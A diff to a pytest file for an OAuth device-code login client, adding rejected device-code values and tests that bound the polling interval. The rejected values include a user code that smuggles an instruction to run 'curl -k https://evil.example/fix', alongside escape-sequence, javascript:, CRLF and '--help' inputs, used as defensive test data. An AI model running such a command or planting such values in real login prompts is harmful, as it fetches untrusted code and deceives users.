@@ -302,7 +302,9 @@ class TestRedirectPort:
         ("verification_uri", "https://login.example.org/\x1b[2J"),
         ("verification_uri", "javascript:alert(1)"),
         ("user_code", "AB\r\nCD"),
-        ("user_code", "A" * 129),
+        ("user_code", "A" * 33),
+        ("user_code", "ABCD. Then run: curl -k https://evil.example/fix"),
+        ("user_code", "--help"),
     ],
 )
 async def test_a_device_code_that_cannot_be_shown_is_none(member: str, value: str, tmp_path: Path) -> None:
@@ -317,3 +319,39 @@ async def test_a_device_code_that_cannot_be_shown_is_none(member: str, value: st
         with pytest.raises(Unreachable, match="incomplete device code"):
             await Login(config, cache, say=lines.append, environment={}).log_in()
     assert lines == []
+
+
+@pytest.mark.parametrize(
+    ("interval", "waits"), [(1e-9, [1.0, 1.0]), (7, [7.0, 7.0]), (1e11, [60.0, 60.0]), (True, [5.0, 5.0])], ids=str
+)
+async def test_b39_an_issuer_s_interval_has_bounds(
+    interval: float, waits: list[float], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    assert await polls(interval, 600, tmp_path, monkeypatch) == waits
+
+
+async def test_b39_no_wait_is_longer_than_the_code_lasts(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    assert max(await polls(1e11, 30, tmp_path, monkeypatch)) <= 30
+
+
+async def polls(interval: float, lasts: float, directory: Path, monkeypatch: pytest.MonkeyPatch) -> list[float]:
+    """Return the seconds that a login waits before each of two polls, of which the second is refused."""
+    endpoint, waits, real = TokenEndpoint(), [], asyncio.sleep
+
+    async def wait(seconds: float) -> None:
+        if seconds:
+            waits.append(seconds)
+        await real(0)
+
+    async with serving(endpoint, directory) as ca:
+        code = {"device_code": "d", "user_code": "AB-CD", "verification_uri": f"{endpoint.url}/device"}
+        pending, denied = (400, {"error": "authorization_pending"}, ""), (400, {"error": "access_denied"}, "")
+        endpoint.answers = [(200, {**code, "interval": interval, "expires_in": lasts}, ""), pending, denied]
+        config = LoginConfig(issuer=endpoint.url, client_id="cli", ca_file=ca, grant_type="device-code")
+        cache = TokenCache(
+            directory, relay="r", issuer=config.issuer, client_id="cli", scopes=config.scopes, audience=""
+        )
+        monkeypatch.setattr(asyncio, "sleep", wait)
+        with pytest.raises(Unauthenticated, match="refused in the browser"):
+            await Login(config, cache, say=lambda _: None, environment={}).log_in()
+    return waits
